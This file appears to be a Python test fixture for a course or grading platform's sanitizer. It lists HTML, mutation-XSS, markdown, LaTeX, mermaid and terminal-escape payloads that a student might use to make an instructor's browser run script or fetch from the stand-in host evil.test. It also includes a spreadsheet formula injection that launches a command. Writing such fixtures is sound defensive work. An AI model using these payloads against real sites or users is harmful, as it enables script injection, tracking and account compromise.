"""What a student may write to have an instructor's browser run or fetch something."""

EVIL = "https://evil.test"

REFRESH = f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>"
HTML = [
    "<script>pwn('script')</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=pwn('onerror')>",
    "<svg onload=pwn('svg')><animate onbegin=pwn('begin') attributeName=x dur=1s></svg>",
    "<svg><script>pwn('svg script')</script></svg>",
    "<body onload=pwn('body')><details open ontoggle=pwn('toggle')>x</details>",
    "<input autofocus onfocus=pwn('focus')><video><source onerror=pwn('video')></video>",
    "<a href=\"javascript:pwn('link')\">a</a><a href=\" java\tscript:pwn('tab')\">b</a>",
    "<a href=\"data:text/html,<script>pwn('data')</script>\">c</a>",
    f"<form action={EVIL}/form><button formaction=\"javascript:pwn('form')\">go</button></form>",
    REFRESH,
    f"<iframe src={EVIL}/frame></iframe><iframe srcdoc=\"<script>parent.pwn('doc')</script>\">",
    f"<object data={EVIL}/object></object><embed src={EVIL}/embed>",
    f"<link rel=stylesheet href={EVIL}/style.css><link rel=prefetch href={EVIL}/prefetch>",
    f"<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/css.png) }}</style>",
    f'<div style="background: url({EVIL}/inline.png); behavior: url(#x)">styled</div>',
    f"<img src={EVIL}/pixel.png srcset='{EVIL}/set.png 2x'>",
    f"<picture><source srcset={EVIL}/source.png><img></picture>",
    f"<video poster={EVIL}/poster.png src={EVIL}/v.mp4></video><audio src={EVIL}/a.mp3></audio>",
    f"<base href={EVIL}/><table background={EVIL}/table.png><tr><td>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=pwn(2)>'></noscript>",
    "</pre></div></section></main><script>pwn('closed')</script>",
]  # fmt: skip

MUTATING = [  # harmless until a cleaner changes them
    "<template><script>pwn(0)</script></template><xmp><img src=x onerror=pwn(0)></xmp>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=pwn()>'>",
    "<svg></p><style><a title='</style><img src=x onerror=pwn(2)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn(3)>",
    "<b title='`--><img src=x onerror=pwn(4)>'>", "<<script>script>pwn(5)<</script>/script>",
]  # fmt: skip

MARKDOWN = [
    f"![pixel]({EVIL}/markdown.png)",
    f"![][reference]\n\n[reference]: {EVIL}/reference.png",
    "[link](javascript:pwn('markdown')) <javascript:pwn('auto')>",
    "[upper](JaVaScRiPt:pwn(1)) [entity](&#106;avascript:pwn(2)) [data](data:text/html,x)",
    f'[quote](https://x.test"onmouseover="pwn(3)) ![a]({EVIL}/b.png"onerror="pwn(4))',
    "```mermaid\ngraph TD; A[<img src=x onerror=pwn(5)>]-->B\n```",
    "$\\href{javascript:pwn('href')}{x}$ and $$\\style{background:url(https://evil.test/tex)}{y}$$",
    "\\begin{equation}\\require{html}\\href{javascript:pwn(6)}{z}\\end{equation}",
    "$<img src=x onerror=pwn(7)>$ $$</script><script>pwn(8)</script>$$",
    "`<script>pwn(9)</script>` and\n\n    <script>pwn(10)</script>\n\nand {{7*7}} {% raw %} ${7*7}",
    "| a |\n|---|\n| <img src=x onerror=pwn(11)> |",
    f'![a > <script>pwn(13)</script>]({EVIL}/alt.png "b > <img src=x onerror=pwn(14)>")',
    f'![ src="data:image/png;base64,AAAA" ]({EVIL}/quoted.png) ![](data:text/html,<b>)',
    "> <svg onload=pwn(12)>\n\n1. <iframe src=https://evil.test/list>",
]

TEXT = [
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:pwn(1)\x07link\x1b]8;;\x07 \x1b[38m \x1b[2J\x9b31m",
    "\x1b[38;2;1;1;1m<script>pwn('ansi')</script>\x1b[0m",
    "\u202egnp.exe\u202c \x00\x08 \ud800 =cmd|' /C calc'!A0",
    *HTML,
    *MUTATING,
]

EVERYTHING = "\n\n".join([*HTML, *MUTATING, *MARKDOWN])
